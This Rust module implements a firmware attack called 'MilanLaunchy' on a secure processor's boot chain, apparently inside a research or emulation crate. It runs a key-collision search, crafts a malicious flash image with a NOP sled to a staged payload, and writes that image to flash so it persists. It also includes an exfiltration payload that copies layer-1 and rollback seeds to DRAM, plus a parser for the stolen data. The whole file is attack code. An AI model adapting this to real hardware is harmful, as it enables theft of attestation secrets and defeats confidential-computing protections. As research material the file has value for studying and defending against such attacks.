// Licensed under the Apache-2.0 license

use serde::Serialize;

use super::{milanlaunchy_search, milanlaunchy_search_landing, AttackError, CollisionFound, CollisionSearchSpec};
use crate::boot::{BootOutcome, PayloadContext, PayloadError, PayloadRegistry};
use crate::crypto::SymmetricKey128;
use crate::firmware::{
    craft_attack_image, AttackLayout, EntryType, FirmwareModule, FlashImage, PayloadDescriptor,
    ATTACK_PAYLOAD_ADDR,
};
use crate::platform::Platform;
use crate::vcek::Seed;

/// Id in the descriptor staged at 0x20000.
pub const MILANLAUNCHY_PAYLOAD_ID: u32 = 0x4D4C_0001;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct MilanLaunchyOptions {
    pub match_bits: u32,
    pub rng_seed: u64,
    pub max_trials: Option<u64>,
}

impl Default for MilanLaunchyOptions {
    fn default() -> Self {
        MilanLaunchyOptions {
            match_bits: 16,
            rng_seed: 0,
            max_trials: None,
        }
    }
}

#[derive(Debug, Clone)]
pub struct MilanLaunchyPlan {
    pub search: CollisionFound,
    pub layout: AttackLayout,
    pub image: FlashImage,
}

#[derive(Debug, Clone)]
pub struct MilanLaunchyRun {
    pub plan: MilanLaunchyPlan,
    pub outcome: BootOutcome,
}

/// Searches for the IKEK and builds the flash. Below 32 bits the branch
/// lands somewhere between the end of the recovery image and 0x20000, and
/// a NOP sled covers the gap.
pub fn plan_milanlaunchy(
    current_flash: &FlashImage,
    legacy_recovery: &FirmwareModule,
    bootrom_key: &SymmetricKey128,
    opts: MilanLaunchyOptions,
) -> Result<MilanLaunchyPlan, AttackError> {
    let mut spec = CollisionSearchSpec::from_recovery(
        legacy_recovery,
        *bootrom_key,
        ATTACK_PAYLOAD_ADDR,
        opts.match_bits.min(32),
        opts.rng_seed,
    );
    spec.max_trials = opts.max_trials;
    let (search, layout) = if spec.match_bits >= 32 {
        (milanlaunchy_search(&spec)?, AttackLayout::exact())
    } else {
        let recovery_end = (legacy_recovery.header.load_addr + legacy_recovery.header.image_size).next_multiple_of(4);
        let found = milanlaunchy_search_landing(&spec, recovery_end..=ATTACK_PAYLOAD_ADDR)?;
        let target = found.branch_target.expect("landing filter only accepts branches");
        (found, AttackLayout::with_sled(ATTACK_PAYLOAD_ADDR - target))
    };
    let mut image = craft_attack_image(
        &search.key(),
        legacy_recovery,
        &PayloadDescriptor::new(MILANLAUNCHY_PAYLOAD_ID),
        bootrom_key,
        layout,
    )?;
    // Keep the later layers so the host still boots.
    for t in [EntryType::SevFirmware, EntryType::Microcode] {
        if let Some(data) = current_flash.entry_data(t) {
            image = image.with_entry(t, data.to_vec());
        }
    }
    Ok(MilanLaunchyPlan { search, layout, image })
}

/// Plans, flashes the attack image (it stays there) and boots once.
pub fn run_milanlaunchy(
    platform: &mut Platform,
    legacy_recovery: &FirmwareModule,
    bootrom_key: &SymmetricKey128,
    hooks: &PayloadRegistry,
    opts: MilanLaunchyOptions,
) -> Result<MilanLaunchyRun, AttackError> {
    let plan = plan_milanlaunchy(&platform.flash, legacy_recovery, bootrom_key, opts)?;
    platform.flash = plan.image.clone();
    let outcome = platform.boot(hooks);
    Ok(MilanLaunchyRun { plan, outcome })
}

/// Payload that copies the layer-1 handoff to DRAM:
/// `layer1 (32) | has_rollback (1) | rollback (32, zero if absent)`.
pub fn exfil_payload(ctx: &mut PayloadContext<'_>) -> Result<(), PayloadError> {
    let l1 = ctx.get_layer1_seed();
    let rb = ctx.get_rollback_seed();
    ctx.write_dram_out(&l1);
    ctx.write_dram_out(&[rb.is_some() as u8]);
    ctx.write_dram_out(&rb.unwrap_or([0; 32]));
    Ok(())
}

pub fn parse_exfil(dram: &[u8]) -> Option<(Seed, Option<Seed>)> {
    if dram.len() < 65 {
        return None;
    }
    let l1 = dram[..32].try_into().unwrap();
    let rb = (dram[32] == 1).then(|| dram[33..65].try_into().unwrap());
    Some((l1, rb))
}
